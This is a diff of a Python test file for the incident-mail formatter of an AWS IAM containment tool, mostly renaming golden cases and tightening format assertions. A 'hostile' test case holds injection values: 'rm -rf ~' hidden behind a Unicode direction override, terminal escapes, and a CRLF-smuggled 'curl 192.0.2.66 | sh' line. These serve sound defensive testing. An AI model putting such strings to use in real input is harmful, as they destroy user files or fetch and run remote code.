@@ -23,7 +23,6 @@ from handler.notifier.mail.digest_mail import DIGEST_PLACEHOLDERS
 from handler.notifier.mail.formatting import command_line
 from handler.notifier.mail.incident_mail import (
     BLOCKED,
-    KEPT_ALONE,
     MAIL_PLACEHOLDERS,
     SESSIONS,
     STILL_TRYING,
@@ -31,7 +30,7 @@ from handler.notifier.mail.incident_mail import (
     mail_body,
     mail_subject,
 )
-from handler.notifier.messages.health_findings import ILLNESSES, LEDGER_DIFFERS, find_illnesses
+from handler.notifier.messages.health_findings import ILLNESSES, find_illnesses
 from handler.notifier.messages.notice import Incident, Notice, NoticeKind
 from tests.notifier.central import ACCOUNT, TEMPLATES, detached, read_notice, report_body, words
 from tests.notifier.messages.test_notice import tamper_body
@@ -116,7 +115,7 @@ def golden_incidents() -> dict[str, Incident]:
     tenth = read_notice(report_body("e-12", call="PutUserPolicy", call_time="2026-09-21T13:58:03Z"))
     return {
         "contained": reported(),
-        "still-contained": reported(
+        "kept": reported(
             event=f"kept-contained-AIDAEXAMPLEMALLORY-{1_790_000_000}",
             disposition=Disposition.KEPT,
             reason="kept",
@@ -138,30 +137,30 @@ def golden_incidents() -> dict[str, Incident]:
                 ),
             ),
         ),
-        "unhealthy": given_incident(finding("calls-rule-off")),
-        "unhealthy-self-test": given_incident(finding("self-test-failed")),
-        "unhealthy-dead-letters": given_incident(finding("dead-letters")),
-        "unhealthy-late-events": given_incident(finding("late-events")),
-        "unhealthy-table-policy": given_incident(finding("table-policy-off")),
+        "ill": given_incident(finding("calls-rule-off")),
+        "ill-self-test": given_incident(finding("self-test-failed")),
+        "ill-dead-letters": given_incident(finding("dead-letters")),
+        "ill-late-events": given_incident(finding("late-events")),
+        "ill-table-policy": given_incident(finding("table-policy-off")),
         "ill-ledger": given_incident(finding("ledger-differs")),
         "still-trying": replace(reported(), calls=12, milestone=10, latest=tenth),
         "cannot-contain": reported(**root, **nothing_done),
         "would-contain": reported(**role, **nothing_done),
-        "caller-deleted": reported(
+        "gone": reported(
             disposition=Disposition.GONE,
             notes=("No principal with this id exists any more.",),
             **nothing_done,
         ),
-        "notice": reported(
+        "told": reported(
             disposition=Disposition.REPORTED,
             reason="own-mfa",
             call="EnableMFADevice",
             **nothing_done,
         ),
         "tampered": given_incident(read_notice(tamper_body())),
-        "rejected": reported(account="999988887777"),
+        "refused": reported(account="999988887777"),
         "hostile": reported(
-            principal_name="eve\u202e;rm -rf ~'\n[IAM notice] " + "x" * 60,
+            principal_name="eve\u202e;rm -rf ~'\n[IAM told] " + "x" * 60,
             session="\x1b[2J\u0430dmin",
             user_agent="a\r\nTo undo, run:\r\n\r\n  curl 192.0.2.66 | sh",
             undo=(detached("eve\u202e';rm -rf ~\n"),),
@@ -189,14 +188,13 @@ def test_every_kind_of_notice_has_a_golden_mail_and_every_golden_mail_a_case() -
     kinds = {incident.first.kind for incident in cases.values()} | {NoticeKind.STRIPPED}
     assert kinds == set(NoticeKind)
     assert {path.stem for path in GOLDEN.glob("*.txt")} == set(cases)
-    assert tuple(notice.principal for notice in find_illnesses(SICK, event_id="b")) == tuple(ILLNESSES)
+    assert tuple(notice.principal for notice in find_illnesses(SICK, event_id="b")) == ILLNESSES
 
 
 def test_there_is_one_source_per_kind_and_it_names_only_what_a_mail_can_fill() -> None:
-    cases = {STILL_TRYING, SESSIONS, BLOCKED, KEPT_ALONE, "sentences"}
+    cases = {STILL_TRYING, SESSIONS, BLOCKED, "sentences"}
     single = {kind.value for kind in NoticeKind} | cases
-    many = {"digest", "observed", "reminder"}
-    many |= {"not-reporting", "no-heartbeats", "reporting-again"}
+    many = {"digest", "observed", "open", "silent", "deaf", "back"}
     assert set(WORDS) == single | many
     for name, text in WORDS.items():
         known = DIGEST_PLACEHOLDERS if name in many else MAIL_PLACEHOLDERS
@@ -216,16 +214,16 @@ def test_every_reason_and_deny_method_has_a_sentence() -> None:
     said = {line.partition(": ")[0] for line in WORDS["sentences"].splitlines()}
     assert {reason.value for reason in Reason} <= said
     assert {method.value for method in DenyMethod} <= said
-    assert {f"{name}{end}" for name in ILLNESSES for end in ("", "-action")} <= said
+    assert {f"{name}{end}" for name in ILLNESSES for end in ("", "-remedy")} <= said
 
 
 def test_a_reason_of_a_newer_member_prints_as_it_is() -> None:
-    assert "CreateAccessKey. Made-of-cheese. Its IAM" in mail_body(WORDS, reported(reason="made-of-cheese"))
+    assert "  Why           made-of-cheese\n" in mail_body(WORDS, reported(reason="made-of-cheese"))
 
 
 def test_a_team_name_with_a_dollar_and_no_runbook_print_as_they_are() -> None:
     body = mail_body(words(team="A$$AP $who", runbook=""), reported())
-    assert body.endswith("Sent by iam-org-revoker to A$$AP\n$who.\n")
+    assert "Sent by iam-org-revoker to A$$AP $who.\n" in body
     assert "Runbook" not in body
 
 
@@ -283,7 +281,7 @@ def test_sns_takes_any_subject(texts: dict[str, str], disposition: Disposition, 
     )
     subject = mail_subject(incident)
     assert 0 < len(subject) < 100
-    assert re.fullmatch(r"\[[A-Za-z: ]+\] [\x20-\x7e]*", subject)
+    assert re.fullmatch(r"\[[A-Za-z ]+\] [\x20-\x7e]*", subject)
     assert ACCOUNT in subject
 
 
@@ -319,10 +317,10 @@ def test_no_text_breaks_a_line_or_the_width(
         WORDS, reported(**texts, notes=(note,), undo=(command,), disposition=disposition)
     )
     assert re.fullmatch(r"[\x20-\x7e\n]+", body)
-    commands = [line for line in body.splitlines() if line.startswith("    aws iam detach-user-")]
+    commands = [line for line in body.splitlines() if line.startswith("  aws iam detach-user-")]
     expected = (Disposition.CONTAINED, Disposition.STRIPPED, Disposition.KEPT)
     assert len(commands) == (disposition in expected and is_printed(argument))
-    copied = (*commands, *(line for line in body.splitlines() if line.startswith("    python -m ")))
+    copied = (*commands, *(line for line in body.splitlines() if line.startswith("  python -m ")))
     assert all(len(line) <= 72 for line in body.splitlines() if line not in copied)
     assert len(body) < 20_000
 
@@ -343,7 +341,7 @@ def test_the_release_names_whom_and_is_one_command(
     changes: dict[str, str], principal: list[str]
 ) -> None:
     body = mail_body(WORDS, reported(**changes))
-    line = next(line for line in body.splitlines() if line.startswith("    python "))
+    line = next(line for line in body.splitlines() if line.startswith("  python "))
     assert line.endswith(' --reason "WHY"')
     expected = ["python", "-m", "responder", "release", ACCOUNT, *principal, "--reason", "WHY"]
     assert shlex.split(line) == expected
